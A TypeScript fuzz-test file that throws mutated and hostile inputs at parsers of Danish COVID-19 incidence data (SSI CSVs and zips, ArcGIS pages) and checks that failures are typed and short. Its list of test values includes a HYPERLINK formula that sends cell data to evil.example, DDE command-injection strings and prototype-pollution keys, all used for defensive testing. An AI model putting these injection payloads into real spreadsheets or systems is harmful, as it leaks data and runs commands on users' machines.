/*
 * Hostile incidence bodies through the real parsers (fast-check, fixed seed). Every generated
 * SSI time series, test_pos, SSI zip and ArcGIS page must either parse into a sane dataset or
 * fail with a typed error (InputError 65 / SourceError 69) whose message is one line, at most 300
 * characters, and quotes at most 40 characters of any injected value — never a crash, another
 * error type or a hang (the test timeout bounds every property).
 *
 * Runs per property: TESTROTA_FUZZ_RUNS (default 200, so `npm test` stays fast; the reliability
 * run sets more). Seed: TESTROTA_FUZZ_SEED (default 20201028; any integer replays another
 * sequence). The number of inputs tried is printed as a line starting with
 * `[reliability] sources-fuzz:` and, when TESTROTA_FUZZ_REPORT names a file, appended to it as
 * one JSON line `{"suite":"sources-fuzz","inputs":N,…}`.
 */
import { appendFileSync, readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { zipSync } from "fflate";
import { afterAll, beforeAll, describe, it } from "vitest";
import { daysBetween } from "../../src/domain/calendar.ts";
import type { DailyCasesDataset, IncidenceDataset } from "../../src/domain/incidence.ts";
import type { Municipality } from "../../src/domain/reference.ts";
import { InputError, SourceError } from "../../src/errors.ts";
import { readReference } from "../../src/roster/read-reference.ts";
import { createArcgisSource } from "../../src/sources/arcgis.ts";
import type { HttpClient } from "../../src/sources/http-client.ts";
import { createSsiSource, parseSsiPair } from "../../src/sources/ssi.ts";

const RUNS = Number(process.env.TESTROTA_FUZZ_RUNS ?? "200");
const SEED = Number(process.env.TESTROTA_FUZZ_SEED ?? "20201028");
const MAX_MESSAGE = 300;
const MAX_QUOTED = 40;

const ROOT = join(import.meta.dirname, "..", "..");
const SSI = join(ROOT, "config", "demo", "ssi");

let municipalities: Municipality[];
let bases: Record<"2020" | "late", { ts: string; tp: string }>;
let inputsTried = 0;

beforeAll(async () => {
  municipalities = await readReference(join(ROOT, "reference", "municipalities.csv"));
  const read = (folder: string, file: string) => readFileSync(join(SSI, folder, file), "utf8");
  // The first 40 days keep each run fast; the 2020 pair's test_pos gets the confirmed totals of
  // those days, so the pair stays comparable (the checks of swapped columns and lost rows run).
  const head = (text: string) => `${text.split("\n").slice(0, 41).join("\n")}\n`;
  const series2020 = head(read("2020-09-09", "Municipality_cases_time_series.csv"));
  bases = {
    "2020": { ts: series2020, tp: withTotalsOf(series2020, read("2020-09-09", "Municipality_test_pos.csv")) },
    late: {
      ts: head(read("late", "Municipality_cases_time_series.csv")),
      tp: read("late", "Municipality_test_pos.csv"),
    },
  };
});

/** test_pos with each municipality's confirmed count set to its column's total in `series`. */
function withTotalsOf(series: string, testPos: string): string {
  const [header = [], ...rows] = series
    .trim()
    .split("\n")
    .map((line) => line.split(";").map((field) => field.trim()));
  const total = (name: string) => {
    const column = header.indexOf(name);
    return column < 0 ? 0 : rows.reduce((sum, row) => sum + Number(row[column]), 0);
  };
  return testPos
    .split("\n")
    .map((line, i) => {
      const fields = line.split(";");
      if (i === 0 || fields.length < 5) return line;
      fields[3] = String(total(fields[0] === "101" ? "Copenhagen" : (fields[1] ?? "")));
      return fields.join(";");
    })
    .join("\n");
}

afterAll(() => {
  const line = `[reliability] sources-fuzz: ${inputsTried} hostile inputs tried (seed ${SEED}, ${RUNS} runs per property)`;
  console.log(line);
  const report = process.env.TESTROTA_FUZZ_REPORT;
  if (report !== undefined && report !== "") {
    const entry = { suite: "sources-fuzz", inputs: inputsTried, seed: SEED, runsPerProperty: RUNS };
    appendFileSync(report, `${JSON.stringify(entry)}\n`);
  }
});

const LONG = "x".repeat(100_000);

/** Values known to break naive parsers, formula injection and huge numbers among them. */
const NOTABLE = [
  "",
  " ",
  "-1",
  "-0",
  "1e23",
  "100000000000000000000000",
  "9".repeat(400),
  "1.000.000.000.000.000.000",
  "3,5",
  "3.657,0",
  "NaN",
  "Infinity",
  "0x1F",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "1\u00002",
  '"',
  '""',
  'a"b',
  "1;2",
  "1\n2",
  "\uFEFF1",
  "１２",
  "\u202e21",
  "2020-02-30",
  "9999-12-31",
  "0001-01-01",
  "Copenhagen",
  "Christiansø",
  "NA",
  "date_sample",
  "SampleDate",
  LONG,
];

const hostileValue = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NOTABLE) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 80 }) },
  { weight: 1, arbitrary: fc.bigInt({ min: -(10n ** 30n), max: 10n ** 30n }).map(String) },
  { weight: 1, arbitrary: fc.integer({ min: -10, max: 2_000_000 }).map(String) },
);

type Mutation =
  | { kind: "field"; line: number; column: number; value: string }
  | { kind: "drop"; line: number }
  | { kind: "duplicate"; line: number }
  | { kind: "swap-lines"; a: number; b: number }
  | { kind: "swap-columns"; a: number; b: number }
  | { kind: "insert"; line: number; value: string }
  | { kind: "truncate"; at: number };

const index = fc.nat(100_000);
const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  {
    weight: 5,
    arbitrary: fc.record({ kind: fc.constant("field"), line: index, column: index, value: hostileValue }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("drop"), line: index }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("duplicate"), line: index }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("swap-lines"), a: index, b: index }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("swap-columns"), a: index, b: index }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("insert"), line: index, value: hostileValue }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("truncate"), at: fc.nat(1_000_000) }) },
);

/** Applies mutations to a `;`-separated text; returns it and the values injected. */
function mutate(text: string, mutations: readonly Mutation[]): { text: string; injected: string[] } {
  let lines = text.split("\n");
  const injected: string[] = [];
  for (const m of mutations) {
    const at = (i: number) => i % Math.max(1, lines.length);
    switch (m.kind) {
      case "field": {
        const fields = (lines[at(m.line)] ?? "").split(";");
        fields[m.column % Math.max(1, fields.length)] = m.value;
        lines[at(m.line)] = fields.join(";");
        injected.push(m.value);
        break;
      }
      case "drop":
        lines.splice(at(m.line), 1);
        break;
      case "duplicate":
        lines.splice(at(m.line), 0, lines[at(m.line)] ?? "");
        break;
      case "swap-lines": {
        const [a, b] = [at(m.a), at(m.b)];
        [lines[a], lines[b]] = [lines[b] ?? "", lines[a] ?? ""];
        break;
      }
      case "swap-columns":
        lines = lines.map((line) => {
          const fields = line.split(";");
          const [a, b] = [m.a % Math.max(1, fields.length), m.b % Math.max(1, fields.length)];
          [fields[a], fields[b]] = [fields[b] ?? "", fields[a] ?? ""];
          return fields.join(";");
        });
        break;
      case "insert":
        lines.splice(at(m.line), 0, m.value);
        injected.push(m.value);
        break;
      case "truncate":
        lines = lines
          .join("\n")
          .slice(0, m.at % (lines.join("\n").length + 1))
          .split("\n");
        break;
    }
  }
  return { text: lines.join("\n"), injected };
}

/** The outcome rule: a sane dataset, or a typed, short, one-line error quoting ≤ 40 characters. */
function checkFailure(error: unknown, injected: readonly string[]): void {
  if (!(error instanceof InputError || error instanceof SourceError)) {
    throw new Error(`untyped failure: ${String(error)}`, { cause: error });
  }
  const { message } = error;
  if (/[\r\n\u2028\u2029]/.test(message)) throw new Error(`message not one line: ${JSON.stringify(message)}`);
  if (message.length > MAX_MESSAGE) throw new Error(`message of ${message.length} characters: ${message}`);
  for (const value of injected) {
    for (let start = 0; start + MAX_QUOTED < value.length; start += MAX_QUOTED) {
      const window = value.slice(start, start + MAX_QUOTED + 1);
      if (window.trim().length > MAX_QUOTED && message.includes(window)) {
        throw new Error(`message quotes more than ${MAX_QUOTED} characters of an input value: ${message}`);
      }
    }
  }
}

function checkDaily(dataset: DailyCasesDataset): void {
  const days = daysBetween(dataset.firstDate, dataset.lastDate) + 1;
  for (const [code, series] of dataset.casesByCode) {
    const population = dataset.populationByCode.get(code) ?? 0;
    if (!(population > 0 && population <= 10_000_000)) throw new Error(`population ${population} of ${code}`);
    if (series.length !== days)
      throw new Error(`series of ${code} has ${series.length} days, expected ${days}`);
    if (!series.every((c) => Number.isSafeInteger(c) && c >= 0 && c <= population)) {
      throw new Error(`implausible count in the series of ${code}`);
    }
  }
}

function checkDataset(dataset: IncidenceDataset): void {
  if (dataset.kind === "daily") {
    checkDaily(dataset);
    return;
  }
  if (dataset.rowsByCode.size !== municipalities.length) throw new Error("partial totals accepted");
  for (const row of dataset.rowsByCode.values()) {
    if (!(Number.isFinite(row.incidence) && row.incidence >= 0))
      throw new Error(`incidence ${row.incidence}`);
  }
}

function parsePair(ts: Uint8Array, tp: Uint8Array, injected: readonly string[]): void {
  inputsTried += 1;
  try {
    checkDaily(
      parseSsiPair({
        timeSeries: ts,
        testPos: tp,
        timeSeriesOrigin: "ts.csv",
        testPosOrigin: "tp.csv",
        municipalities,
      }),
    );
  } catch (error) {
    checkFailure(error, injected);
  }
}

const options = () => ({ seed: SEED, numRuns: RUNS });
const utf8 = (text: string) => Buffer.from(text, "utf8");

describe("hostile SSI bodies", () => {
  it("mutated time series (both formats) parse or fail typed", () => {
    fc.assert(
      fc.property(
        fc.constantFrom<"2020" | "late">("2020", "late"),
        fc.array(mutation, { minLength: 1, maxLength: 3 }),
        (base, mutations) => {
          const { text, injected } = mutate(bases[base].ts, mutations);
          parsePair(utf8(text), utf8(bases[base].tp), injected);
        },
      ),
      options(),
    );
  });

  it("mutated test_pos files parse or fail typed", () => {
    fc.assert(
      fc.property(
        fc.constantFrom<"2020" | "late">("2020", "late"),
        fc.array(mutation, { minLength: 1, maxLength: 3 }),
        (base, mutations) => {
          const { text, injected } = mutate(bases[base].tp, mutations);
          parsePair(utf8(bases[base].ts), utf8(text), injected);
        },
      ),
      options(),
    );
  });

  it("arbitrary bytes and text as either file fail typed", () => {
    const body = fc.oneof(
      fc.uint8Array({ maxLength: 4096 }),
      fc.string({ unit: "binary", maxLength: 2000 }).map(utf8),
      fc
        .array(
          fc.array(hostileValue, { maxLength: 8 }).map((fields) => fields.join(";")),
          { maxLength: 20 },
        )
        .map((lines) => utf8(lines.join("\n"))),
    );
    fc.assert(
      fc.property(body, fc.boolean(), (bytes, asSeries) => {
        const text = Buffer.from(bytes).toString("utf8");
        const injected = text.split(/[;\n]/);
        if (asSeries) parsePair(bytes, utf8(bases["2020"].tp), injected);
        else parsePair(utf8(bases["2020"].ts), bytes, injected);
      }),
      options(),
    );
  });

  it("hostile zips (garbage, flipped bytes, odd entry names) fail typed", async () => {
    const realZip = zipSync({
      "data/Municipality_cases_time_series.csv": utf8(bases["2020"].ts),
      "data/Municipality_test_pos.csv": utf8(bases["2020"].tp),
    });
    const zipBody = fc.oneof(
      fc.uint8Array({ maxLength: 4096 }).map((bytes) => ({ bytes, injected: [] as string[] })),
      fc
        .array(fc.tuple(fc.nat(realZip.length - 1), fc.integer({ min: 0, max: 255 })), {
          minLength: 1,
          maxLength: 8,
        })
        .map((flips) => {
          const bytes = new Uint8Array(realZip);
          for (const [at, value] of flips) bytes[at] = value;
          return { bytes, injected: [] as string[] };
        }),
      // A zip entry name holds at most 65,535 bytes.
      hostileValue
        .map((value) => value.slice(0, 1000))
        .map((folder) => ({
          bytes: zipSync({
            [`${folder}/Municipality_cases_time_series.csv`]: utf8(bases["2020"].ts),
            "Municipality_test_pos.csv": utf8(bases["2020"].tp),
          }),
          injected: [folder],
        })),
    );
    await fc.assert(
      fc.asyncProperty(zipBody, async ({ bytes, injected }) => {
        inputsTried += 1;
        const source = createSsiSource(
          { zip: "in.zip" },
          { readLocation: () => Promise.resolve(bytes), municipalities },
        );
        try {
          checkDataset((await source.fetchIncidence()).dataset);
        } catch (error) {
          checkFailure(error, injected);
        }
      }),
      options(),
    );
  });
});

describe("hostile ArcGIS bodies", () => {
  const FIELDS = {
    code: "kommunekode",
    cases7d: "antal_7d",
    population: "indbyggertal",
    lastUpdate: "opdateret",
  };

  function validPage(offset: number, count: number, more: boolean): Record<string, unknown> {
    return {
      features: municipalities.slice(offset, offset + count).map((m) => ({
        attributes: {
          kommunekode: m.code,
          antal_7d: (m.code * 7) % 113,
          indbyggertal: m.population,
          opdateret: Date.UTC(2020, 9, 27, 11),
        },
      })),
      exceededTransferLimit: more,
    };
  }

  /** One page as generated: garbage, random JSON, an error body, or a valid page with one hostile attribute. */
  const page = fc.oneof(
    fc.uint8Array({ maxLength: 2048 }).map((bytes) => ({ bytes, injected: [] as string[] })),
    fc.jsonValue().map((value) => ({ bytes: utf8(JSON.stringify(value)), injected: [] as string[] })),
    fc
      .record({
        code: fc.oneof(fc.integer(), hostileValue),
        message: hostileValue,
        details: fc.array(hostileValue, { maxLength: 3 }),
      })
      .map((error) => ({
        bytes: utf8(JSON.stringify({ error })),
        injected: [error.message, ...error.details, String(error.code)],
      })),
    fc
      .record({
        feature: fc.nat(97),
        field: fc.constantFrom(...Object.values(FIELDS), "__proto__", "constructor"),
        value: fc.oneof(fc.jsonValue(), hostileValue),
        more: fc.boolean(),
      })
      .map(({ feature, field, value, more }) => {
        const body = validPage(0, 98, more);
        const features = body["features"] as { attributes: Record<string, unknown> }[];
        const target = features[feature];
        if (target !== undefined) target.attributes = { ...target.attributes, [field]: value };
        return {
          bytes: utf8(JSON.stringify(body)),
          injected: typeof value === "string" ? [value] : [JSON.stringify(value)],
        };
      }),
  );

  it("pages (one or several, repeated or not) parse or fail typed", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(page, { minLength: 1, maxLength: 4 }),
        fc.boolean(),
        async (pages, repeatForever) => {
          inputsTried += 1;
          let served = 0;
          const http: HttpClient = {
            getBytes: () => {
              const next = pages[Math.min(served, pages.length - 1)];
              served += 1;
              // Past the generated pages: the last one again (a server stuck on a page), or the end.
              if (served > pages.length && !repeatForever) return Promise.resolve(utf8('{"features":[]}'));
              return Promise.resolve(next?.bytes ?? new Uint8Array());
            },
            getJson: () => Promise.reject(new Error("not used")),
            close: () => Promise.resolve(),
          };
          const source = createArcgisSource(
            {
              type: "arcgis",
              url: "http://arcgis.test/FeatureServer/0",
              where: "1=1",
              pageSize: 98,
              fields: FIELDS,
            },
            { http, municipalities, now: () => Date.UTC(2020, 9, 28, 9) },
          );
          try {
            checkDataset((await source.fetchIncidence()).dataset);
          } catch (error) {
            checkFailure(
              error,
              pages.flatMap((p) => p.injected),
            );
          }
        },
      ),
      options(),
    );
  });
});
